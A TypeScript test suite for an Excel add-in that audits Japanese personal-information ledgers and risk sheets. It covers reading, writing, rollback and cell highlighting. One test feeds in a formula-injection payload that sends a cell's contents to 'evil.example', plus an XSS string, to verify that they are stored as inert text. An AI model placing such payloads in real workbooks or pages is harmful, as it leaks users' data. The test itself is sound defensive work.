import { describe, expect, it } from "vitest";
import { checkWorkbook } from "../../packages/core/src/check";
import { findingsReportPlan, highlightPlan, preparePlan, textCell, type WritePlan } from "../../packages/core/src/plan/index";
import { addressChunks, applyHighlights, applyPlan, clearHighlights, readGrids, type Features } from "../../packages/excel-addin/src/adapter";
import { createExcelBridge, type StateStore } from "../../packages/excel-addin/src/excel-bridge";
import { toBridgeError, withExcel } from "../../packages/excel-addin/src/errors";
import { HIGHLIGHT_SHEET, decodeFills, encodeFills } from "../../packages/excel-addin/src/highlight-store";
import { resolveProfile } from "../../packages/core/src/profile/resolve";
import { modelFromProfile } from "../../packages/core/src/scoring/index";
import { asExcel, FakeOfficeError, FakeWorkbook, fakeRun, parseAddress } from "./fake-excel";
import { contentOf, fillsOf, LEDGER, ledgerRows, pmarkWorkbook, RISK, riskRows, TODAY, workbook } from "./workbooks";

const ALL: Features = { mergedAreas: true, triggerSource: true };
const MODEL = modelFromProfile(resolveProfile())!;

/** Office's document settings, as the bridge sees them: a text saved with the workbook. */
export function settingsOf(wb: FakeWorkbook): StateStore {
  return {
    load: () => wb.settings,
    save: async (text) => {
      wb.settings = text;
    },
  };
}

function bridgeOver(wb: FakeWorkbook, features: Features = ALL) {
  return createExcelBridge({ run: fakeRun(wb), language: "ja", features, today: TODAY, store: settingsOf(wb) });
}

/** Syncs used by one bridge call. */
async function syncsOf<T>(wb: FakeWorkbook, call: () => Promise<T>): Promise<{ syncs: number; result: T }> {
  const before = wb.syncCount;
  const result = await call();
  return { syncs: wb.syncCount - before, result };
}

describe("readGrids", () => {
  it("reads every sheet from A1 with values and formulas, skipping the add-in's bookkeeping sheet", async () => {
    const wb = workbook({ 表紙: [[null, null], [null, "個人情報管理台帳 2025年度"]], [RISK]: riskRows(1) });
    wb.sheet(RISK).formulas.set("1:6", "=E2*F2");
    wb.sheet(RISK).values.delete("1:6");
    wb.addSheet(HIGHLIGHT_SHEET).setValues(0, 0, [["x"]]);
    const read = await wb.run((ctx) => readGrids(asExcel(ctx), { features: ALL }));
    expect(read.grids.map((g) => g.name)).toEqual(["表紙", RISK]);
    expect(read.grids[0]?.values).toEqual([["", ""], ["", "個人情報管理台帳 2025年度"]]);
    expect(read.grids[1]?.values.length).toBe(6);
    expect(read.grids[1]?.formulas?.[1]?.[6]).toBe("=E2*F2");
    expect(read.grids[1]?.formulas?.[1]?.[5]).toBeNull();
    expect(read.sheets.map((s) => [s.name, s.protected, s.rows, s.cols])).toEqual([
      ["表紙", false, 2, 2],
      [RISK, false, 6, 10],
    ]);
  });

  it("uses the same number of round trips for 10 rows as for 10,000 (three: sheets, sizes, contents)", async () => {
    const counts: number[] = [];
    for (const rows of [10, 10_000]) {
      const wb = pmarkWorkbook(rows);
      const { syncs, result } = await syncsOf(wb, () => wb.run((ctx) => readGrids(asExcel(ctx), { features: ALL })));
      expect(result.grids[1]?.values.length).toBe(rows + 1);
      expect(Math.max(...wb.syncs.map((s) => Math.max(s.request, s.response)))).toBeLessThan(5 * 1024 * 1024);
      counts.push(syncs);
    }
    expect(counts).toEqual([3, 3]);
  });

  it("splits by row blocks when the contents outgrow the byte budget, and the round trips grow with the bytes", async () => {
    const long = "東京都千代田区丸の内一丁目一番一号 サンプルビル".repeat(2);
    const make = (rows: number) => workbook({ [LEDGER]: ledgerRows(rows, { names: (i) => `${long}${i}` }) });
    const small = make(500);
    const big = make(1000);
    const budget = 150_000;
    const a = await syncsOf(small, () => small.run((ctx) => readGrids(asExcel(ctx), { budget })));
    const b = await syncsOf(big, () => big.run((ctx) => readGrids(asExcel(ctx), { budget })));
    expect(a.syncs).toBeGreaterThan(3);
    expect(b.syncs - 2).toBeGreaterThanOrEqual(2 * (a.syncs - 2) - 1);
    expect(b.result.grids[0]?.values.length).toBe(1001);
    expect(b.result.grids[0]?.values[1000]?.[2]).toBe(`${long}1000`);
    // Every round trip stays near the budget, never at Office's 5 MB cap.
    for (const s of big.syncs) expect(s.response).toBeLessThan(budget * 1.6);
  });

  it("halves the blocks and reads again when a response exceeds the payload limit after all", async () => {
    // The first rows are short (the sample), the rest long: the estimate falls short.
    const rows = ledgerRows(2000, { names: (i) => (i <= 70 ? `項目${i}` : `${"長い名称".repeat(60)}${i}`) });
    const wb = workbook({ [LEDGER]: rows });
    wb.payloadLimit = 600_000;
    const read = await wb.run((ctx) => readGrids(asExcel(ctx), { budget: 500_000 }));
    expect(read.grids[0]?.values.length).toBe(2001);
    expect(read.grids[0]?.values[2000]?.[2]).toBe(`${"長い名称".repeat(60)}2000`);
    expect(wb.syncs.some((s) => s.response > wb.payloadLimit)).toBe(true);
  });

  it("reads a sheet by its real data when a stray value inflates its used range (AD200000, A1048576)", async () => {
    const counts: number[] = [];
    for (const stray of ["AD200000", "A1048576"]) {
      const wb = pmarkWorkbook(10);
      const far = parseAddress(stray);
      wb.sheet(LEDGER).values.set(`${far.top}:${far.left}`, "x");
      const { syncs, result } = await syncsOf(wb, () => wb.run((ctx) => readGrids(asExcel(ctx), { features: ALL })));
      expect(result.skipped).toEqual([]);
      const ledger = result.grids.find((g) => g.name === LEDGER);
      expect(ledger?.values.length).toBe(far.top + 1);
      expect(ledger?.values[far.top]?.[far.left]).toBe("x");
      expect(ledger?.values[1]?.[2]).toBe("台帳項目1");
      expect(ledger?.values[5000]).toEqual([]);
      // One more round trip than a compact workbook: the blocks of the large used range are probed.
      counts.push(syncs);
      for (const s of wb.syncs) expect(s.response).toBeLessThan(5 * 1024 * 1024);
    }
    expect(counts).toEqual([4, 4]);
    const wb = pmarkWorkbook(10);
    wb.sheet(LEDGER).values.set("199999:29", "x");
    const report = await bridgeOver(wb).check({});
    expect(report.notice).toBeUndefined();
    expect(report.sheets.map((s) => s.kind)).toEqual(["ledger", "risk"]);
  });

  it("skips, with a notice, only a sheet whose real data is over Excel's 5,000,000-cell limit; the others are checked", async () => {
    const wb = pmarkWorkbook(10, { blankRetention: true });
    const big = wb.addSheet("巨大");
    big.values.set("0:0", "a");
    big.values.set("65535:255", "z"); // 65,536 × 256 cells of real extent in one block
    const report = await bridgeOver(wb).check({});
    expect(report.notice).toMatchObject({ code: "partial-size", skipped: ["巨大"], checked: [LEDGER, RISK] });
    expect(report.notice?.message.ja).toContain("「巨大」");
    expect(report.sheets.map((s) => s.name)).toEqual([LEDGER, RISK]);
    // Only findings that stay true whatever the skipped sheet holds.
    expect(report.findings.some((f) => f.rule === "ledger/required-empty")).toBe(true);
    expect(report.findings.every((f) => f.sheet !== "巨大")).toBe(true);
    expect(report.withheld).toBeGreaterThanOrEqual(0);
  });

  it("reports merged areas (ExcelApi 1.13) and protection", async () => {
    const wb = workbook({ [RISK]: riskRows(2) });
    wb.sheet(RISK).merges.push(parseAddress("B2:B6"));
    wb.sheet(RISK).protected = true;
    const read = await wb.run((ctx) => readGrids(asExcel(ctx), { features: ALL }));
    expect(read.grids[0]?.merges).toEqual([{ startRow: 1, startCol: 1, endRow: 5, endCol: 1 }]);
    expect(read.sheets[0]?.protected).toBe(true);
  });
});

describe("applyPlan", () => {
  it("writes text as text: messages and names starting with = + - @, numbers in text and HTML stay exactly as written", async () => {
    const wb = workbook({ [LEDGER]: ledgerRows(1) });
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    const report = checkWorkbook(read.grids, { today: TODAY });
    const nasty = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2-2", "@SUM(A1)", "00123", "<img src=x onerror=alert(1)>"];
    report.findings = nasty.map((text, i) => ({ rule: "risk/orphan-row", severity: "error", sheet: text, cell: `A${i + 1}`, row: i + 1, col: 1, messageId: "x", message: { ja: text, en: text } }));
    const prepared = preparePlan(findingsReportPlan(report, "ja"), read.grids, { confirmOverwrite: false });
    await wb.run((ctx) => applyPlan(asExcel(ctx), prepared.plan, { lang: "ja", grids: read.grids }));
    const sheet = wb.sheet("チェック結果");
    expect(sheet.formulas.size).toBe(0);
    nasty.forEach((text, i) => {
      expect(sheet.value(i + 1, 2)).toBe(text);
      expect(sheet.value(i + 1, 4)).toBe(text);
    });
    expect(sheet.frozen).toEqual({ rows: 1, cols: 0 });
  });

  it("guards strings from any builder: a raw '=...' in a values op is still written as text", async () => {
    const wb = workbook({ S: [["a"]] });
    const plan: WritePlan = { title: { ja: "", en: "" }, ops: [{ op: "values", sheet: "S", row: 2, col: 1, values: [["=1+1", "-x", 5]] }] };
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    await wb.run((ctx) => applyPlan(asExcel(ctx), plan, { lang: "en", grids: read.grids }));
    expect(wb.sheet("S").formulas.size).toBe(0);
    expect([wb.sheet("S").value(1, 0), wb.sheet("S").value(1, 1), wb.sheet("S").value(1, 2)]).toEqual(["=1+1", "-x", 5]);
  });

  it("never writes over non-empty user cells unless confirmed", async () => {
    const wb = workbook({ S: [["keep", null], [null, "mine"]] });
    const plan: WritePlan = { title: { ja: "", en: "" }, ops: [{ op: "values", sheet: "S", row: 1, col: 1, values: [[textCell("new"), textCell("b1")], [textCell("a2"), textCell("new")]] }] };
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    const unconfirmed = preparePlan(plan, read.grids, { confirmOverwrite: false });
    expect(unconfirmed.overwrites).toEqual([
      { sheet: "S", cell: "A1" },
      { sheet: "S", cell: "B2" },
    ]);
    await wb.run((ctx) => applyPlan(asExcel(ctx), unconfirmed.plan, { lang: "en", grids: read.grids }));
    expect(contentOf(wb, "S")).toEqual({ "0:0": "v:string:keep", "0:1": "v:string:b1", "1:0": "v:string:a2", "1:1": "v:string:mine" });
    const confirmed = preparePlan(plan, read.grids, { confirmOverwrite: true });
    await wb.run((ctx) => applyPlan(asExcel(ctx), confirmed.plan, { lang: "en", grids: read.grids }));
    expect(contentOf(wb, "S")["0:0"]).toBe("v:string:new");
  });

  it("rolls back a write that failed half-way: added sheets removed, cells put back", async () => {
    const wb = workbook({ S: [["a", null]], T: [["t"]] });
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    wb.sheet("T").protected = true; // protected after the read: the pre-check cannot see it
    const plan: WritePlan = {
      title: { ja: "", en: "" },
      ops: [
        { op: "addSheet", sheet: "New" },
        { op: "values", sheet: "S", row: 1, col: 2, values: [[textCell("x".repeat(300))]] },
        { op: "values", sheet: "T", row: 2, col: 1, values: [[textCell("y")]] },
      ],
    };
    const error = await wb.run((ctx) => applyPlan(asExcel(ctx), plan, { lang: "en", grids: read.grids, budget: 200 })).catch((e: unknown) => e);
    expect((error as FakeOfficeError).code).toBe("AccessDenied");
    expect(wb.sheets.map((s) => s.name)).toEqual(["S", "T"]);
    expect(contentOf(wb, "S")).toEqual({ "0:0": "v:string:a" });
  });

  it("puts a failed write's cells back in commands that do not grow with its rows", async () => {
    const rollbackCommands: number[] = [];
    for (const n of [10, 2_000]) {
      const rows = Array.from({ length: n }, (_, i) => [`a${i + 1}`, i + 1]);
      const wb = workbook({ S: rows, T: [["t"]] });
      const original = contentOf(wb, "S");
      const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
      wb.sheet("T").protected = true;
      const plan: WritePlan = {
        title: { ja: "", en: "" },
        ops: [
          { op: "values", sheet: "S", row: 1, col: 1, values: rows.map(() => [textCell("new"), 0]) },
          // Too large to share a round trip with the first write: that one goes through first.
          { op: "values", sheet: "T", row: 2, col: 1, values: [[textCell("z".repeat(99_750))]] },
        ],
      };
      const failedAt = wb.syncCount;
      const error = await wb.run((ctx) => applyPlan(asExcel(ctx), plan, { lang: "en", grids: read.grids, budget: 100_000 })).catch((e: unknown) => e);
      expect((error as FakeOfficeError).code).toBe("AccessDenied");
      expect(contentOf(wb, "S")).toEqual(original);
      rollbackCommands.push(wb.syncs.slice(failedAt + 1).reduce((sum, s) => sum + s.commands, 0));
    }
    expect(rollbackCommands[1]).toBe(rollbackCommands[0]);
  });

  it("puts cells back when the first round trip fails part-way (what ran before the failure stays in Excel)", async () => {
    const rows = Array.from({ length: 10 }, (_, i) => [`a${i + 1}`, i + 1]);
    const wb = workbook({ S: rows, T: [["t"]] });
    const original = contentOf(wb, "S");
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    wb.sheet("T").protected = true;
    const plan: WritePlan = {
      title: { ja: "", en: "" },
      ops: [
        { op: "values", sheet: "S", row: 1, col: 1, values: rows.map(() => [textCell("new"), 0]) },
        { op: "values", sheet: "T", row: 2, col: 1, values: [[textCell("z")]] },
      ],
    };
    const error = await wb.run((ctx) => applyPlan(asExcel(ctx), plan, { lang: "en", grids: read.grids })).catch((e: unknown) => e);
    expect((error as FakeOfficeError).code).toBe("AccessDenied");
    expect(contentOf(wb, "S")).toEqual(original);
  });

  it("suspends screen updating once per apply", async () => {
    const wb = pmarkWorkbook(10, { scored: false });
    await bridgeOver(wb).apply("formulas", undefined, false);
    expect(wb.suspendCalls).toBe(1);
  });
});

describe("Excel bridge", () => {
  it("adds formulas and dropdowns in a constant number of round trips for 10 and 10,000 rows, touching only empty cells", async () => {
    const counts: number[] = [];
    for (const rows of [10, 10_000]) {
      const wb = pmarkWorkbook(rows, { scored: false });
      const risk = wb.sheet(RISK);
      risk.values.set("1:6", 2); // a score the user typed on the first data row
      const before = contentOf(wb, RISK);
      const { syncs, result } = await syncsOf(wb, () => bridgeOver(wb).apply("formulas", undefined, false));
      expect(result).toMatchObject({ ok: true, skipped: [] });
      const after = contentOf(wb, RISK);
      for (const [k, v] of Object.entries(before)) expect(after[k]).toBe(v);
      expect(risk.formulas.get("2:6")).toBe(MODEL.scoreFormula((input) => (input === "likelihood" ? "E3" : "F3"), "ja"));
      expect(risk.formulas.get("1:7")).toBe(MODEL.levelFormula("G2", "ja"));
      expect(risk.formulas.has("1:6")).toBe(false);
      expect(risk.validations.map((v) => v.address)).toContain(`E2:E${rows + 101}`);
      counts.push(syncs);
    }
    expect(counts[0]).toBe(counts[1]);
    // Sheets, sizes, contents, the dropdowns already there, and the write.
    expect(counts[0]).toBeLessThanOrEqual(5);
  });

  it("refuses to write on a protected sheet and writes nothing", async () => {
    const wb = pmarkWorkbook(10, { scored: false });
    wb.sheet(RISK).protected = true;
    const before = contentOf(wb, RISK);
    const result = await bridgeOver(wb).apply("formulas", undefined, false);
    expect(result.ok).toBe(false);
    expect(result.error?.code).toBe("protected");
    expect(result.error?.message.ja).toContain(RISK);
    expect(contentOf(wb, RISK)).toEqual(before);
    expect(wb.sheet(RISK).validations).toEqual([]);
  });

  it("refuses a merged-cell header where a column would be added, before writing anything", async () => {
    const rows = riskRows(2).map((r) => r.slice(0, 6)); // no score or level column
    rows.unshift(["リスク分析表", null, null, null, null, null, null, null]);
    const wb = workbook({ [LEDGER]: ledgerRows(2), [RISK]: rows });
    wb.sheet(RISK).merges.push(parseAddress("F2:H2"));
    const before = contentOf(wb, RISK);
    const result = await bridgeOver(wb).apply("formulas", undefined, false);
    expect(result.error?.code).toBe("merged-cells");
    expect(contentOf(wb, RISK)).toEqual(before);
    expect(wb.sheet(RISK).validations).toEqual([]);
  });

  it("previews without writing, with the overwrites listed", async () => {
    const wb = pmarkWorkbook(10);
    const before = contentOf(wb, RISK);
    const preview = await bridgeOver(wb).preview("report");
    expect(preview.plan.ops[0]).toMatchObject({ op: "addSheet", sheet: "チェック結果" });
    expect(preview.overwrites).toEqual([]);
    expect(contentOf(wb, RISK)).toEqual(before);
    expect(wb.sheets.length).toBe(2);
  });

  it("inserts only the template sheets the workbook lacks, beside the user's, never a second ledger", async () => {
    const wb = workbook({ 個人情報管理台帳: ledgerRows(1) });
    const result = await bridgeOver(wb).apply("template", undefined, false);
    expect(result.ok).toBe(true);
    const names = wb.sheets.map((s) => s.name);
    expect(names).toEqual(["個人情報管理台帳", "リスク分析表", "委託先管理台帳", "法令等一覧", "教育実施記録", "内部監査記録"]);
    expect(contentOf(wb, "個人情報管理台帳")).toEqual(contentOf(workbook({ 個人情報管理台帳: ledgerRows(1) }), "個人情報管理台帳"));
  });

  it("selects the finding's cell on its sheet", async () => {
    const wb = pmarkWorkbook(10);
    await bridgeOver(wb).select(RISK, "C7");
    expect(wb.selection).toEqual({ sheet: RISK, address: "C7" });
    expect(wb.activeSheet).toBe(RISK);
  });

  it("tells a user edit from the add-in's own writes", async () => {
    const wb = pmarkWorkbook(10, { scored: false });
    const bridge = bridgeOver(wb);
    let calls = 0;
    const stop = bridge.onChange?.(() => calls++);
    await new Promise((r) => setTimeout(r, 5));
    await bridge.apply("formulas", undefined, false);
    await new Promise((r) => setTimeout(r, 20));
    expect(calls).toBe(0);
    wb.userEdit(RISK, "E3", 3);
    await new Promise((r) => setTimeout(r, 20));
    expect(calls).toBe(1);
    stop?.();
  });
});

describe("highlights", () => {
  it("paints and clears in a constant number of round trips for 10 and 10,000 rows", async () => {
    const counts: number[] = [];
    for (const rows of [10, 10_000]) {
      const wb = pmarkWorkbook(rows, { blankRetention: true });
      const bridge = bridgeOver(wb);
      const painted = await syncsOf(wb, () => bridge.apply("highlight", undefined, false));
      expect(painted.result.ok).toBe(true);
      expect(wb.sheet(LEDGER).fillAt(1, 12)?.color).toBe("#FFC7CE");
      const cleared = await syncsOf(wb, () => bridge.clearHighlights());
      expect(wb.sheet(LEDGER).fills.size).toBe(0);
      counts.push(painted.syncs * 100 + cleared.syncs);
    }
    expect(counts[0]).toBe(counts[1]);
  });

  it("Clear restores every fill exactly: none, the user's colours and patterns, also after a reload", async () => {
    const wb = pmarkWorkbook(50, { blankRetention: true });
    const ledger = wb.sheet(LEDGER);
    ledger.fills.set("1:12", { color: "#00B050", pattern: "Solid" }); // user's green on a finding cell
    ledger.fills.set("2:12", { color: "#FFFF00", pattern: "Gray25", patternColor: "#FF0000" }); // patterned
    ledger.fills.set("0:0", { color: "#D9E1F2", pattern: "Solid" }); // not a finding cell
    const before = fillsOf(wb, LEDGER);
    await bridgeOver(wb).apply("highlight", undefined, false);
    expect(ledger.fillAt(1, 12)?.color).toBe("#FFC7CE");
    expect(ledger.fillAt(2, 12)).toEqual({ color: "#FFC7CE", pattern: "Solid" });
    expect(ledger.fillAt(3, 12)?.color).toBe("#FFC7CE");
    const book = wb.sheet(HIGHLIGHT_SHEET);
    expect(book.visibility).toBe("VeryHidden");
    // A new bridge, as after closing and opening the workbook: the records are in the workbook.
    await bridgeOver(wb).clearHighlights();
    expect(fillsOf(wb, LEDGER)).toEqual(before);
    // The store goes with the colours: nothing of the add-in's travels with the file.
    expect(wb.sheets.map((s) => s.name)).not.toContain(HIGHLIGHT_SHEET);
  });

  it("keeps a fill the user chose after highlighting, and highlighting twice still restores the originals", async () => {
    const wb = pmarkWorkbook(50, { blankRetention: true });
    const ledger = wb.sheet(LEDGER);
    ledger.fills.set("1:12", { color: "#00B050", pattern: "Solid" });
    const before = fillsOf(wb, LEDGER);
    const bridge = bridgeOver(wb);
    await bridge.apply("highlight", undefined, false);
    await bridge.apply("highlight", undefined, false);
    ledger.fills.set("3:12", { color: "#7030A0", pattern: "Solid" }); // the user recolours a highlighted cell
    await bridge.clearHighlights();
    expect(fillsOf(wb, LEDGER)).toEqual({ ...before, "3:12": "#7030A0|Solid|" });
  });

  it("a fixed finding loses its colour on the next highlight", async () => {
    const wb = pmarkWorkbook(10, { blankRetention: true });
    const bridge = bridgeOver(wb);
    await bridge.apply("highlight", undefined, false);
    wb.sheet(LEDGER).values.set("1:12", "退職後5年");
    await bridge.apply("highlight", undefined, false);
    expect(wb.sheet(LEDGER).fillAt(1, 12)).toBeUndefined();
    expect(wb.sheet(LEDGER).fillAt(2, 12)?.color).toBe("#FFC7CE");
  });

  it("keeps getRanges address lists under 7,000 characters for scattered findings", async () => {
    const wb = workbook({ S: [["x"]] });
    const read = await wb.run((ctx) => readGrids(asExcel(ctx)));
    const cells = Array.from({ length: 3000 }, (_, i) => `${String.fromCharCode(65 + (i % 2) * 2)}${i * 2 + 1}`);
    const plan: WritePlan = { title: { ja: "", en: "" }, ops: [{ op: "highlight", sheet: "S", cells, fill: "#FFC7CE" }] };
    await wb.run((ctx) => applyHighlights(asExcel(ctx), plan, read));
    expect(wb.largestAddressList).toBeGreaterThan(1000);
    expect(wb.largestAddressList).toBeLessThanOrEqual(7000);
    expect(wb.sheet("S").fills.size).toBe(3000);
    expect(addressChunks(cells).every((c) => c.length <= 7000)).toBe(true);
  });

  it("refuses to paint a protected sheet, changing nothing", async () => {
    const wb = pmarkWorkbook(10, { blankRetention: true });
    wb.sheet(LEDGER).protected = true;
    const error = await bridgeOver(wb).apply("highlight", undefined, false);
    expect(error.ok).toBe(false);
    expect(error.error?.code).toBe("protected");
    expect(wb.sheet(LEDGER).fills.size).toBe(0);
    expect(wb.sheets.map((s) => s.name)).not.toContain(HIGHLIGHT_SHEET);
  });

  it("encodes recorded fills compactly and losslessly", () => {
    const states = [{ color: null }, { color: null }, { color: "#00B050" }, { color: "#FFFF00", pattern: "Gray25", patternColor: "#FF0000" }, { color: null }];
    const text = encodeFills(states);
    expect(text).toBe("*2;#00B050*1;#FFFF00|Gray25|#FF0000*1;*1");
    expect(decodeFills(text)).toEqual(states);
  });

  it("clear with nothing recorded is one round trip and changes nothing", async () => {
    const wb = pmarkWorkbook(10);
    const { syncs } = await syncsOf(wb, () => wb.run((ctx) => clearHighlights(asExcel(ctx))));
    expect(syncs).toBe(1);
  });

  it("highlightPlan merges each sheet's finding cells into rectangles", () => {
    const report = checkWorkbook([{ name: LEDGER, values: ledgerRows(20, { blankRetention: true }) }], { today: TODAY });
    const plan = highlightPlan(report);
    const ledgerError = plan.ops.find((op) => op.op === "highlight" && op.sheet === LEDGER && op.fill === "#FFC7CE");
    expect(ledgerError && ledgerError.op === "highlight" ? ledgerError.cells : []).toContain("M2:M21");
  });
});

describe("withExcel", () => {
  it("maps Office errors to messages in both languages", async () => {
    const run = async () => {
      throw new FakeOfficeError("AccessDenied", "denied");
    };
    const error = await withExcel(run, async () => 1).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: "AccessDenied" });
    expect((error as { text: { ja: string } }).text.ja).toContain("保護");
    expect(toBridgeError(new FakeOfficeError("InvalidOperation", "Cannot change part of a merged cell.")).code).toBe("merged-cells");
    expect(toBridgeError(new Error("boom")).text.en).toContain("boom");
  });

  it("retries once when Excel is in cell-edit mode", async () => {
    let calls = 0;
    const run = async <T>(fn: (ctx: Excel.RequestContext) => Promise<T>): Promise<T> => {
      calls++;
      if (calls === 1) throw new FakeOfficeError("InvalidOperationInCellEditMode", "editing");
      return fn({} as Excel.RequestContext);
    };
    await expect(withExcel(run, async () => "ok")).resolves.toBe("ok");
    expect(calls).toBe(2);
  });
});
